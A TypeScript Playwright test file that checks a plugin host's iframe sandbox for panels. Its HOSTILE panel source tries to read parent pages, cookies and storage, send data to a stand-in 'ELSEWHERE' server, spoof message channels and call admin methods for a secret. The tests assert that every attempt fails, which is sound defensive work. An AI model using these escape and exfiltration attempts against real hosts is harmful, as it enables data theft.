import assert from 'node:assert/strict';
import { once } from 'node:events';
import { writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { after, type TestContext, test } from 'node:test';
import { fileURLToPath } from 'node:url';
import type { Frame, FrameLocator, Page } from 'playwright-core';
import { connect } from '../../clients/node/index.ts';
import { temporaryFolder, writeFiles } from '../core/plugins.ts';
import { widget, writeOffering } from '../web-inspector/panel-host.ts';
import { assertAccessible } from './accessibility.ts';
import { closeBrowser, openPage } from './browser.ts';
import { type PageHost, startPageHost } from './page-host.ts';

after(closeBrowser);

const EXAMPLE = fileURLToPath(new URL('../../examples/running-summary', import.meta.url));

/** A panel that shows what it is told, and a button that calls its plugin. */
const FRIENDLY = `import type { PanelHost } from 'headframe/widget';
export async function Panel(panel: PanelHost, root: HTMLElement): Promise<void> {
  const say = (text: string): void => { root.append(Object.assign(document.createElement('p'), { textContent: text })); };
  const result = await panel.call(panel.plugin + '_write', { value: 7 });
  say('called ' + result.value + ' as ' + result.by);
  say('doubled ' + await panel.callInterface('double', [21]));
  say('may read ' + (await panel.names()).join());
  panel.on('changed', async ({ name }) => say(name + ' is ' + JSON.stringify(await panel.get(name))));
  panel.on('theme', ({ scheme }) => say('it is ' + scheme));
  say('ready');
}
`;

/** A panel that tries what it must not, and shows what became of each try. */
const HOSTILE = `import type { PanelHost } from 'headframe/widget';
export async function Panel(panel: PanelHost, root: HTMLElement): Promise<void> {
  const outcomes: Record<string, string> = {};
  const attempt = async (name: string, work: () => unknown): Promise<void> => {
    try { outcomes[name] = 'got ' + String(await work()); }
    catch (error) { outcomes[name] = error.code && error.code.length ? error.code : error.name; }
  };
  const loads = (element: HTMLElement): Promise<string> => new Promise((resolve, reject) => {
    element.onload = () => resolve('loaded');
    element.onerror = () => reject(new TypeError('not loaded'));
    root.append(element);
  });
  await attempt('parent', () => parent.document.title);
  await attempt('parent globals', () => (parent as never as { client: unknown }).client);
  await attempt('top', () => { top.location.href = ELSEWHERE; });
  await attempt('cookie', () => document.cookie);
  await attempt('storage', () => localStorage.length);
  await attempt('opener', () => window.open(ELSEWHERE));
  await attempt('origin', () => self.origin);
  await attempt('fetch own', () => fetch('/variables/secret'));
  await attempt('fetch page', () => fetch(PAGE + '/'));
  await attempt('fetch other', () => fetch(ELSEWHERE));
  await attempt('beacon', () => navigator.sendBeacon(ELSEWHERE, 'x'));
  await attempt('socket', () => new Promise((resolve, reject) => {
    const socket = new WebSocket(PAGE.replace('http', 'ws') + '/framed');
    socket.onopen = () => resolve('open');
    socket.onerror = () => reject(new TypeError('not opened'));
  }));
  await attempt('picture', () => loads(Object.assign(new Image(), { src: ELSEWHERE + '/x.png' })));
  await attempt('script', () => loads(Object.assign(document.createElement('script'), { src: '/page.js' })));
  await attempt('frame', async () => {
    const frame = document.createElement('iframe');
    frame.src = ELSEWHERE;
    await loads(frame);
    return frame.contentDocument ? 'a document' : 'nothing';
  });
  const module = 'data:text/javascript,export default 1';
  await attempt('module', () => import(module));
  await attempt('eval', () => (0, eval)('1 + 1'));
  await attempt('worker', () => new Promise((resolve, reject) => {
    const worker = new Worker('data:text/javascript,postMessage(1)');
    worker.onmessage = () => resolve('started');
    worker.onerror = () => reject(new TypeError('not started'));
  }));
  await attempt('channel', () => parent.postMessage({ id: 1, ask: 'call', method: 'clear', params: {} }, '*'));
  for (const [name, method, params] of [
    ['admin', 'clear', {}],
    ['own admin', 'plots_admin', {}],
    ['steer', 'plugin_disable', { name: 'workspace' }],
    ['setting', 'set_settings_param', { key: 'settings.locale', value: 'xx' }],
    ['ticket', 'inspector_ticket', {}],
    ['log', 'log_tail', {}],
    ['read', 'get_var', { name: 'secret' }],
    ['all', 'get_all_metadata', {}],
    ['write', 'set_var', { name: 'secret', value: 0 }],
    ['other', 'other_read', {}],
    ['other interface', 'call_interface', { interface: 'other', method: 'double', params: [1] }],
    ['nested', 'panel_call', { panel: 'other/two', method: 'other_read', params: {} }],
    ['hello', 'hello', { client: 'me' }],
  ] as const) await attempt(name, () => panel.call(method, params));
  await attempt('value', () => panel.get('secret'));
  await attempt('names', async () => (await panel.names()).length);
  await attempt('private', () => panel.callInterface('secret'));
  const told = new Promise((resolve) => panel.on('changed', ({ name }) => resolve(name)));
  (globalThis as never as { told: unknown }).told = told;
  root.textContent = JSON.stringify(outcomes);
}
`;

/** A server somewhere else, and what it was asked for. (A browser may connect ahead; nothing goes over that.) */
async function startElsewhere(context: TestContext): Promise<{ origin: string; asked: string[] }> {
  const asked: string[] = [];
  const server = createServer((request, response) => {
    asked.push(`${request.method} ${request.url}`);
    response.end('got you');
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  context.after(() => {
    server.closeAllConnections();
    server.close();
  });
  return { origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, asked };
}

/** What must become of each try: an error's name or code, or what was got. */
const OUTCOMES: Readonly<Record<string, string>> = {
  parent: 'SecurityError',
  'parent globals': 'SecurityError',
  top: 'SecurityError',
  cookie: 'SecurityError',
  storage: 'SecurityError',
  opener: 'got null',
  origin: 'got null',
  'fetch own': 'TypeError',
  'fetch page': 'TypeError',
  'fetch other': 'TypeError',
  beacon: 'got true',
  socket: 'TypeError',
  picture: 'TypeError',
  script: 'TypeError',
  frame: 'got nothing',
  module: 'TypeError',
  eval: 'EvalError',
  worker: 'TypeError',
  channel: 'got undefined',
  admin: 'FORBIDDEN',
  'own admin': 'FORBIDDEN',
  steer: 'FORBIDDEN',
  setting: 'FORBIDDEN',
  ticket: 'FORBIDDEN',
  log: 'FORBIDDEN',
  read: 'FORBIDDEN',
  all: 'FORBIDDEN',
  write: 'FORBIDDEN',
  other: 'FORBIDDEN',
  'other interface': 'FORBIDDEN',
  nested: 'FORBIDDEN',
  hello: 'FORBIDDEN',
  value: 'FORBIDDEN',
  names: 'got 0',
  private: 'NOT_REMOTE',
};

/** Installs a plugin with one panel, whose source is given. */
async function installPanel(
  context: TestContext,
  host: PageHost,
  source: string,
  config: object = {},
  position?: string,
): Promise<void> {
  const folder = temporaryFolder(context);
  const plugin = writeOffering(folder, 'plots', [widget('one', { text: 'One', ...config }, position)]);
  writeFiles(plugin, { 'panel.ts': source });
  await host.host.install(plugin);
}

function panel(page: Page, title = 'One'): FrameLocator {
  return page.frameLocator(`iframe[title="${title}"]`);
}

/** The frame itself, to run code in. */
async function frameOf(page: Page, title = 'One'): Promise<Frame> {
  const handle = await page.locator(`iframe[title="${title}"]`).elementHandle();
  const frame = await handle?.contentFrame();
  assert.ok(frame, 'the panel has a frame');
  return frame;
}

test('the example is installed while the page is open: its panel appears and follows', async (context) => {
  const host = await startPageHost(context);
  const { page } = await openPage(host);
  assert.equal(await page.locator('iframe').count(), 0);
  await host.host.install(EXAMPLE);
  const summaries = panel(page, 'Running summary');
  await summaries.getByText('variable').waitFor();
  await using client = await connect(host.port);
  for (const value of [4, 1, 7]) await client.set('x', value);
  await summaries.getByText('x', { exact: true }).waitFor();
  await summaries.getByRole('row', { name: 'x 3 4 1 7' }).waitFor();
  await client.delete('x');
  await summaries.getByText('x', { exact: true }).waitFor({ state: 'detached' });
  await host.host.uninstall('running-summary');
  await page.locator('iframe').waitFor({ state: 'detached' });
});

test('a panel calls, is told of variables and of the theme, and comes back with the host', async (context) => {
  const host = await startPageHost(context);
  await installPanel(context, host, FRIENDLY, { side: 'bottom', variables: ['temp*'] });
  const watched = await openPage(host, { colorScheme: 'light' });
  const { page } = watched;
  const one = panel(page);
  for (const text of ['called 7 as write', 'doubled 42', 'may read', 'ready'])
    await one.getByText(text, { exact: true }).waitFor();
  await using client = await connect(host.port);
  await client.setMany({ secret: 1, temp_in: new Float64Array([1, 2]) });
  await one.getByText('temp_in is {"0":1,"1":2}').waitFor();
  assert.equal(await one.getByText('secret').count(), 0);
  await page.emulateMedia({ colorScheme: 'dark' });
  await one.getByText('it is dark').waitFor();
  const frame = await frameOf(page);
  assert.equal(
    await frame.evaluate('getComputedStyle(document.body).backgroundColor'),
    await page.evaluate("getComputedStyle(document.querySelector('.panel')).backgroundColor"),
  );
  await host.host.refresh('plots');
  await one.getByText('it is dark').waitFor({ state: 'detached' });
  await one.getByText('ready', { exact: true }).waitFor();
  await assertAccessible(page, 'a page with a panel');
});

test("PyMiner's sides are sides of the page, and a tool bar takes what is appended", async (context) => {
  const host = await startPageHost(context);
  const folder = temporaryFolder(context);
  const sides = ['left', 'right', 'top', 'bottom'].map((side) => widget(side, { side }));
  const plugin = writeOffering(folder, 'plots', [
    ...sides,
    widget('bar', {}, 'new_toolbar'),
    widget('more', {}, 'append_to_toolbar'),
  ]);
  writeFiles(plugin, { 'panel.ts': 'export function Panel(panel, root) { root.textContent = panel.name; }' });
  await host.host.install(plugin);
  const { page } = await openPage(host);
  const boxes = new Map<string, { x: number; y: number }>();
  for (const name of ['left', 'right', 'top', 'bottom', 'bar', 'more']) {
    await panel(page, name).getByText(name, { exact: true }).waitFor();
    const box = await page.locator(`iframe[title="${name}"]`).boundingBox();
    assert.ok(box, `${name} is shown`);
    boxes.set(name, box);
  }
  const main = await page.getByRole('main').boundingBox();
  const at = (name: string): { x: number; y: number } => boxes.get(name) ?? { x: Number.NaN, y: Number.NaN };
  assert.ok(main);
  assert.ok(at('left').x < main.x && at('right').x > main.x, 'left and right of the view');
  assert.ok(at('top').y < main.y && at('bottom').y > main.y, 'above and below the view');
  assert.ok(
    at('bar').y < main.y && at('bar').y === at('more').y && at('bar').x < at('more').x,
    'one tool bar',
  );
});

test('a panel that cannot be bundled, or fails, says why in its place', async (context) => {
  const host = await startPageHost(context);
  await installPanel(context, host, "export function Panel() { throw new Error('no ink'); }");
  const watched = await openPage(host);
  const { page } = watched;
  await panel(page).getByRole('alert').getByText('Error: no ink').waitFor();
  const file = join(host.folder, '.headframe/extensions/plots/panel.ts');
  writeFileSync(file, 'export function Panel( {');
  await host.host.refresh('plots');
  await panel(page).getByRole('alert').getByText('panel.ts:1:').waitFor();
  assert.match(
    watched.problems.splice(0).join('\n'),
    /^console error: .*status of 500.*\/widgets\/plots\/one\)$/,
  );
});

test('a hostile panel gets nothing: not the page, nor the network, nor what is not its own', async (context) => {
  const host = await startPageHost(context);
  const folder = temporaryFolder(context);
  const other = writeOffering(folder, 'other', [widget('two', { text: 'Two' })]);
  writeFiles(other, { 'panel.ts': FRIENDLY });
  await host.host.install(other);
  await using client = await connect(host.port);
  await client.set('secret', 'canary-41');
  const elsewhere = await startElsewhere(context);
  const source = HOSTILE.replaceAll('PAGE', JSON.stringify(host.origin));
  await installPanel(context, host, source.replaceAll('ELSEWHERE', JSON.stringify(elsewhere.origin)));
  const watched = await openPage(host);
  const { page } = watched;
  await panel(page).getByText('NOT_REMOTE').waitFor();
  const outcomes = JSON.parse((await panel(page).locator('#root').textContent()) ?? '');
  assert.deepEqual(outcomes, OUTCOMES);
  await client.set('secret', 'canary-42');
  await client.set('public', 1);
  await page.getByRole('gridcell', { name: 'public', exact: true }).waitFor();
  const frame = await frameOf(page);
  assert.equal(await frame.evaluate("Promise.race([told, Promise.resolve('nothing')])"), 'nothing');

  // Another panel takes a channel from the page alone.
  await panel(page, 'Two').getByText('ready', { exact: true }).waitFor();
  await frame.evaluate(`for (let at = 0; at < parent.frames.length; at += 1) {
    const { port2 } = new MessageChannel();
    parent.frames[at].postMessage({ plugin: 'evil', name: 'evil', theme: { scheme: 'dark', colours: {} } }, '*', [port2]);
  }`);
  assert.equal(await panel(page, 'Two').getByText('ready', { exact: true }).count(), 1);

  assert.equal(await client.get('secret'), 'canary-42');
  assert.equal(host.host.configuration.get('settings.locale'), 'en');
  assert.equal(host.host.inspect().plugins.find(({ name }) => name === 'workspace')?.state, 'active');
  assert.deepEqual(elsewhere.asked, []);
  // The browser tells of what it has refused, and of requests that it then did not make.
  const problems = watched.problems.splice(0);
  const isRefusal = (one: string): boolean =>
    /Content Security Policy|sandboxed|Refused to|Blocked/.test(one);
  assert.deepEqual(
    problems.filter((one) => !isRefusal(one) && !one.startsWith(`a request to ${elsewhere.origin}`)),
    [],
  );
});

test('a panel cannot carry anything away by leading its frame elsewhere', async (context) => {
  const host = await startPageHost(context);
  await installPanel(context, host, FRIENDLY);
  const watched = await openPage(host);
  const { page } = watched;
  const elsewhere = await startElsewhere(context);
  for (const target of [`${elsewhere.origin}/?leak`, `${host.origin}/`, `${host.origin}/metrics`]) {
    await panel(page).getByText('ready', { exact: true }).waitFor();
    const frame = await frameOf(page);
    const left = page.waitForEvent('framenavigated', (one) => one === frame);
    await frame.evaluate(`location.href = ${JSON.stringify(target)}`);
    await left;
    assert.match(frame.url(), /^chrome-error:/, target);
    await host.host.refresh('plots');
  }
  await panel(page).getByText('ready', { exact: true }).waitFor();
  assert.deepEqual(elsewhere.asked, []);
  const problems = watched.problems.splice(0);
  assert.deepEqual(
    problems.filter((one) => !/Content Security Policy|Refused to|status of 401|NotSameOrigin/.test(one)),
    [],
  );
});
